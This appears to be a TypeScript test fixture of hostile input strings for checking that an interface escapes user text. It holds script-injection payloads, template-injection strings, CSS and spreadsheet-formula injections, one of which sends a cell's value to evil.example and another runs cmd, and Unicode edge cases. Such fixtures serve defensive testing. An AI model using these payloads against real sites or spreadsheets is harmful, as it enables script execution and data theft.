/** Texts that strangers may choose; whatever runs of them raises `window.ran`. Each fits a name. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>window.ran=1</script>',
  'event handler': '<img src=x onerror="window.ran=1">',
  'end of an attribute': '" autofocus onfocus="window.ran=1" onmouseover="window.ran=1',
  'end of a tag': `"'><svg onload=window.ran=1><iframe srcdoc="<script>parent.ran=1</script>">`,
  'address that runs': 'javascript:window.ran=1',
  'style of a page': '</style><style>body{background:url(https://evil.example/a.png)}</style>',
  'style of an element': 'x" style="position:fixed;inset:0;background:url(//evil.example/b.png)',
  template: '{{constructor.constructor("window.ran=1")()}}${window.ran=1}<%= window.ran=1 %>',
  formula: '=HYPERLINK("https://evil.example?"&A1,"see")',
  'another formula': `@SUM(1+1)*cmd|'/c calc'!A0`,
  'written from the right': 'שלום עולם مرحبا بالعالم',
  'turned around': '\u202Eright to left \u2066override\u2067 embedded\u202B',
  'without width': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg',
  'joined emoji': '👩‍👩‍👧‍👦🏳️‍🌈👨🏽‍🚀🇧🇷1️⃣',
  'marks on marks': `Z${'\u0301\u0330\u0489'.repeat(30)}algo`,
  'one long word': 'W'.repeat(100),
}

/** What only longer texts of several lines may hold. */
export const hostileMessages: Readonly<Record<string, string>> = {
  ...hostileTexts,
  'control characters': '\u0001\u0007\u0008\u001B[31mred\u001B[0m\u007F\u0085\u2028\u2029end',
  'many lines': 'line\n'.repeat(800),
  'longest markup': '<img src=x onerror="window.ran=1">'.repeat(121).slice(0, 4096),
  'longest word': 'M'.repeat(4096),
}
